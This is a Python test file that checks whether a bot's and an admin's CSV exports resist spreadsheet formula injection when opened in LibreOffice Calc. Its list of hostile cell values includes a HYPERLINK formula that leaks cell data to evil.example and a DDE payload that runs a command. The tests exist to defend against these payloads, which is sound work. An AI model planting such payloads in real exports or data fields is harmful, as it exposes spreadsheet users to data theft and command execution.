"""CSV formula injection, checked by a real spreadsheet engine: the bot's /export and the admin's export are opened
in LibreOffice Calc (headless, formulas evaluated, quoted fields not forced to text) with `,` and with `;` as the
separator (Russian Excel's default, which splits the file differently), and no cell may come out as a formula."""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path

import httpx
import pytest

from core import exports
from tests.bot.conftest import make_interaction, make_member, make_seller

# Every line of a cell, not only its first, and text after a `;` or `,` (a cell of its own under another separator).
HOSTILE = (
    'Fine shoes\n=HYPERLINK("http://evil.example/?"&A3;"click")',
    "ok\r\n+1+1",
    "ok\r-2+3",
    "x;=1+1",
    "x,@SUM(1;2)",
    "\n\t=3+3",
    '=cmd|"/c calc"!A1',
    'quote "=4+4" inside',
)
SOFFICE = shutil.which("soffice")


def formulas(csv_bytes: bytes, tmp: Path, separator: str) -> list[str]:
    """The formula cells LibreOffice makes of `csv_bytes` read with `separator` (UTF-8, formulas evaluated)."""
    assert SOFFICE, "LibreOffice Calc (soffice) is needed: apt-get install libreoffice-calc-nogui"
    work = tmp / f"sep{ord(separator)}"
    work.mkdir()
    (work / "export.csv").write_bytes(csv_bytes)
    # Tokens: separator, text delimiter ("), UTF-8, from line 1, default formats, language, quoted-as-text off,
    # detect special numbers, ..., evaluate formulas on (the most dangerous way to open it).
    options = f"CSV:{ord(separator)},34,76,1,,0,false,true,false,false,false,-1,true"
    subprocess.run(
        [SOFFICE, f"-env:UserInstallation=file://{work}/profile", "--headless", f"--infilter={options}",
         "--convert-to", "fods", "--outdir", str(work), str(work / "export.csv")],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    sheet = (work / "export.fods").read_text()
    assert "Fine shoes" in sheet  # the file was really read
    return re.findall(r'table:formula="([^"]*)"', sheet)


async def _seed_hostile(seller) -> None:
    for n, text in enumerate(HOSTILE):
        await make_interaction(seller, text=text, buyer_name=text if n % 2 else "Anna", product_name="-Sneakers")


def test_the_engine_sees_the_attack(tmp_path: Path) -> None:
    """Negative control: the same texts written as a plain CSV writer does become formulas in LibreOffice."""
    import csv
    import io

    buffer = io.StringIO()
    csv.writer(buffer).writerows([["id", "text"], *[[n, text] for n, text in enumerate(HOSTILE)]])
    raw = buffer.getvalue().encode()
    assert formulas(raw, tmp_path, ",") and formulas(raw, tmp_path, ";")


async def test_bot_export_opens_without_formulas(db, tg, bot, feed, tmp_path: Path) -> None:
    seller = await make_seller()
    chat = await tg.user()
    await make_member(seller, chat)
    await _seed_hostile(seller)
    await tg.send(chat, "/export")
    await feed()
    sent = [m for m in await tg.messages(chat) if m["from_bot"]][-1]
    content = (await tg.http.get(f"/_sandbox/files/{sent['document']['file_id']}")).content
    assert content.startswith(exports.BOM.encode())
    for separator in (",", ";"):
        assert formulas(content, tmp_path, separator) == [], separator


async def test_admin_export_opens_without_formulas(logged_in: httpx.AsyncClient, tmp_path: Path) -> None:
    await _seed_hostile(await make_seller())
    response = await logged_in.get("/interactions/export.csv")
    assert response.status_code == 200
    for separator in (",", ";"):
        assert formulas(response.content, tmp_path, separator) == [], separator


@pytest.mark.parametrize("text", HOSTILE)
def test_every_line_and_every_text_cell(text: str) -> None:
    """Each line of a neutralised cell starts harmlessly, and the writer quotes every text cell."""
    safe = exports.safe_cell(text)
    for line in re.split(r"\r\n|\r|\n", safe):
        assert not line.startswith(exports.FORMULA_STARTS), repr(line)
    assert exports.csv_text([[1, safe, ""]]).startswith('1,"')
